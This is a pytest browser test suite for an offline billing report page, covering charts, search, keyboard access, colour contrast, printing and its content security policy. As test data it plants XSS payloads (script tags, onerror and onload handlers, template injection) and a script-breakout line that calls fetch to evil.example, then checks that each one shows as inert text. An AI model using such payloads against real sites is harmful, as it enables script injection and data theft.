"""The month's page as a person has it: in Chromium, without a network, by mouse and keyboard, on a laptop, a phone and paper."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from tests.conftest import Product
from tests.flows.browser import Browser, a_browser, chromium, opened
from tests.flows.small_source import small_source, users_file

MARCH = "2026-03"
OPENED = "tr.opened:not([hidden])"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with a_browser() as browser:
        yield browser


def test_without_a_browser_it_is_skipped_but_fails_where_there_must_be_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "")
    monkeypatch.delenv("SEATLEDGER_CHROMIUM", raising=False)
    for required, ends in (("", pytest.skip.Exception), ("1", pytest.fail.Exception)):
        monkeypatch.setenv("SEATLEDGER_REQUIRE_CHROMIUM", required)
        with pytest.raises(ends, match="no Chromium"):
            chromium()


def hostile_source(root: Path) -> Path:
    """Two workspaces whose ids and names are what one would try; one of them held."""
    source = small_source(root, last=date(2026, 2, 5))
    for path in source.rglob("*.csv"):
        text = (
            path.read_text(encoding="utf-8").replace("oak,", "<script>alert(1)</script>,").replace("elm,", "<img src=x onerror=alert(2)>,")
        )
        text = text.replace("Oak & Sons", '"</script><script>fetch(\'https://evil.example/\')</script> \u202e""onload=""alert(3)"')
        path.write_text(text.replace(",Elm,", ",<!--<script>{{ 7 * 7 }} &amp; \\u003c,"), encoding="utf-8")
    return source


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    product = Product(root / "home", writes_reports=True)
    source = hostile_source(root / "source")
    product.run(source, date(2026, 1, 31))
    broken = users_file(source, date(2026, 2, 3))
    broken.write_text(broken.read_text(encoding="utf-8").replace("a,teammate", "a,<svg/onload=alert(4)>"), encoding="utf-8")
    assert product.run(source, date(2026, 2, 5)).held
    return product.home.reports


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_opens_without_a_request_an_error_or_a_refusal_and_draws_each_chart(browser: Browser, sample: Product, scheme: str) -> None:
    with opened(browser, sample.home.reports / "2026-05" / "index.html", scheme=scheme) as seen:
        assert (seen.said, seen.requests, seen.refused()) == ([], [], [])
        assert seen.page.locator("figure.chart:visible svg").count() == 4  # due, recurring, seats, deferred
        assert seen.page.locator("figure.chart svg text", has_text="+3,600.00").count() == 1  # tea-and-tests, the first invoice
        paper = seen.page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert paper == {"light": "rgb(255, 255, 255)", "dark": "rgb(17, 22, 29)"}[scheme]


def test_its_policy_lets_nothing_in_and_nothing_out(browser: Browser, sample: Product) -> None:
    with opened(browser, sample.home.reports / MARCH / "index.html") as seen:
        assert seen.page.evaluate("fetch('https://example.com/').then(() => 'sent', () => 'refused')") == "refused"
        seen.page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://example.com/x.png'}))")
        put = "const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.head.append(s)"
        seen.page.evaluate(f"() => {{ {put} }}")
        html = "() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken' } catch (e) { return e.name } }"
        assert seen.page.evaluate(html) == "TypeError"
        handler = "() => { try { document.body.setAttribute('onclick', 'window.ran = 1') } catch (e) { return e.name } }"
        assert seen.page.evaluate(handler) == "TypeError"
        assert seen.requests == []
        assert {refusal.split()[0] for refusal in seen.refused()} >= {
            "connect-src",
            "img-src",
            "style-src-elem",
            "require-trusted-types-for",
        }


def test_searching_finds_by_name_id_number_and_plan_and_says_how_many(browser: Browser, sample: Product) -> None:
    with opened(browser, sample.home.reports / MARCH / "index.html") as seen:
        page, status = seen.page, seen.page.locator("#search-status")
        assert status.get_attribute("aria-live") == "polite"
        assert status.inner_text() == "8 invoices."
        numbers = page.locator("#invoice-table tbody button")
        for words, expected in {
            "cafe zurich": ["PIV-2026-000010"],  # Café Zürich, Müller & Söhne
            "sub-hedgehog": ["PIV-2026-000012"],
            "pen-2026 GROWTH": ["PEN-2026-000004"],
            "000013": ["PIV-2026-000013"],
            "kite": ["PIV-2026-000013", "PIV-2026-000011"],
            "nobody": [],
        }.items():
            page.fill("#search", words)
            assert numbers.all_inner_texts() == expected
            assert status.inner_text() == f"{len(expected)} invoice{'' if len(expected) == 1 else 's'} found."


def test_an_invoice_opens_down_to_its_lines_with_their_formulas_and_why_it_differs(browser: Browser, sample: Product) -> None:
    with opened(browser, sample.home.reports / "2026-04" / "index.html", at="#PIV-2026-000015") as seen:
        lines = seen.page.locator(f"{OPENED} tbody tr")
        shown = [[cell.strip() for cell in line.split("\t")] for line in lines.all_inner_texts()]
        assert shown[1] == [
            "PIV-2026-000015-002",
            "1 seat added on plan team from 2026-03-09 to 2026-04-01: 1 × 39.00 USD × 23/31 days",
            "28.94",
        ]
        assert [line[-1] for line in shown] == ["−33.97", "28.94", "−100.65", "203.87", "8.81", "50.97", "395.00", "552.97", "552.97"]
        assert "Before it, PIV-2026-000009 of 1 March 2026: 156.00 due." in seen.page.locator(OPENED).inner_text()
        seen.page.get_by_role("button", name="PIV-2026-000015").click()
        assert seen.page.locator(OPENED).count() == 0


def test_the_table_sorts_by_amount_and_says_so(browser: Browser, sample: Product) -> None:
    with opened(browser, sample.home.reports / MARCH / "index.html") as seen:
        due = seen.page.locator("#invoice-table thead th", has_text="Due")
        for order, first in (("descending", "PEN-2026-000004"), ("ascending", "PEN-2026-000005")):  # 1607.67; 10.36
            due.get_by_role("button").click()
            assert due.get_attribute("aria-sort") == order
            assert seen.page.locator("#invoice-table tbody button").first.inner_text() == first


def test_the_keyboard_alone_gets_from_the_top_to_a_line(browser: Browser, sample: Product) -> None:
    with opened(browser, sample.home.reports / MARCH / "index.html") as seen:
        page = seen.page
        focused = "() => document.activeElement"
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "To the content"
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"
        for _ in range(60):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.id") == "search":
                break
        page.keyboard.type("hedgehog")
        for _ in range(15):
            page.keyboard.press("Tab")
            if page.evaluate("Boolean(document.activeElement.closest('#invoice-table tbody'))"):
                break
        outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        page.keyboard.press("Enter")
        assert page.evaluate_handle(focused).get_attribute("aria-expanded") == "true"
        assert outline == "solid"
        assert "2 seats on plan team from 2026-03-18" in page.locator(OPENED).inner_text()


def test_hostile_ids_and_names_are_text_and_do_nothing(browser: Browser, hostile: Path) -> None:
    with opened(browser, hostile / "2026-01" / "index.html") as seen:
        page = seen.page
        page.on("dialog", lambda dialog: pytest.fail(dialog.message))
        for button in page.locator("#invoice-table tbody button").all():
            button.click()
        shown = page.locator("#invoice-table").inner_text()
        assert "</script><script>fetch('https://evil.example/')</script> \u202e\"onload=\"alert(3)" in shown
        assert "<!--<script>{{ 7 * 7 }} &amp; \\u003c" in shown
        assert "<script>alert(1)</script>" in shown
        assert page.locator("[onload], [onerror], #main script, main img").count() == 0
        assert page.evaluate("document.scripts.length") == 4  # three of data, one that runs
        assert (seen.said, seen.requests, seen.refused()) == ([], [], [])


def test_what_is_held_comes_first_with_why_and_what_mends_it(browser: Browser, hostile: Path) -> None:
    with opened(browser, hostile / "2026-02" / "index.html") as seen:
        assert seen.page.locator("main > section").first.get_attribute("id") == "held"
        held = seen.page.locator("#held").inner_text()
        assert "1 workspace is held, without an invoice until the data is mended." in held
        assert "users/date=2026-02-03/users.csv, row 1" in held
        assert "<script>alert(1)</script>" in held
        assert (seen.said, seen.requests, seen.refused()) == ([], [], [])


@pytest.mark.parametrize("month", ["2026-01", "2026-05"])
def test_on_a_phone_nothing_runs_over_the_edge(browser: Browser, sample: Product, month: str) -> None:
    with opened(browser, sample.home.reports / month / "index.html", size=(390, 844)) as seen:
        seen.page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true })")
        for button in seen.page.locator("#invoice-table tbody button").all():
            button.click()
        assert seen.page.evaluate("document.documentElement.scrollWidth") == 390
        wide = "[...document.querySelectorAll('.chart svg')].map((s) => s.getBoundingClientRect().right).filter((right) => right > 390)"
        assert seen.page.evaluate(wide) == []


def test_every_table_has_a_caption_and_heads_and_the_page_its_landmarks(browser: Browser, sample: Product) -> None:
    with opened(browser, sample.home.reports / "2026-05" / "index.html") as seen:
        seen.page.locator("#invoice-table tbody button").first.click()
        bare = "[...document.querySelectorAll('table')].filter((t) => !t.caption?.textContent || !t.querySelector('thead th[scope=col]')).length"
        assert seen.page.evaluate(bare) == 0
        assert seen.page.evaluate("[...document.querySelectorAll('th')].filter((th) => !th.scope).length") == 0
        assert [seen.page.locator(name).count() for name in ("header", "nav", "main", "footer", "h1", "[role=search]")] == [1] * 6
        assert seen.page.evaluate(
            "[...document.querySelectorAll('section')].every((s) => document.getElementById(s.getAttribute('aria-labelledby')))"
        )
        drawings = "[...document.querySelectorAll('figure.chart')].every((f) => f.querySelector('[role=img]').ariaLabel && f.closest('.whole').nextElementSibling.matches('details'))"
        assert seen.page.evaluate(drawings)


CONTRASTS = """() => {
    const channel = (c) => (c /= 255) <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
    const root = getComputedStyle(document.documentElement);
    const light = (name) => {
        const hex = root.getPropertyValue(name).trim();
        const [r, g, b] = [1, 3, 5].map((at) => channel(parseInt(hex.slice(at, at + 2), 16)));
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const ratio = (a, b) => (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const words = ["--ink", "--quiet", "--link", ...Array.from({length: 8}, (_, n) => `--series-${n + 1}`)];
    const found = {};
    for (const ink of words) for (const paper of ["--paper", "--raised"]) found[`${ink} on ${paper}`] = ratio(light(ink), light(paper));
    found["--ink on --alarm-paper"] = ratio(light("--ink"), light("--alarm-paper"));
    return found;
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_colour_of_words_is_readable(browser: Browser, sample: Product, scheme: str) -> None:
    with opened(browser, sample.home.reports / MARCH / "index.html", scheme=scheme) as seen:
        assert {pair: ratio for pair, ratio in seen.page.evaluate(CONTRASTS).items() if ratio < 4.5} == {}  # WCAG AA


def test_without_its_script_every_figure_but_the_invoices_is_there(browser: Browser, sample: Product) -> None:
    with opened(browser, sample.home.reports / "2026-05" / "index.html", java_script_enabled=False) as seen:
        assert "5,199.82 USD" in seen.page.locator("#due").inner_text()
        assert seen.page.locator("figure.chart:visible").count() == 0
        assert "let this page run its script" in seen.page.locator("#table").inner_text()


def test_on_paper_there_is_no_button_and_the_charts_are_there(browser: Browser, sample: Product) -> None:
    with opened(browser, sample.home.reports / "2026-05" / "index.html", scheme="dark") as seen:
        seen.page.emulate_media(media="print")
        assert seen.page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        assert seen.page.locator("nav:visible, #search:visible, .skip:visible").count() == 0
        assert seen.page.locator("figure.chart:visible svg").count() == 4
        assert seen.page.pdf(format="A4").startswith(b"%PDF")
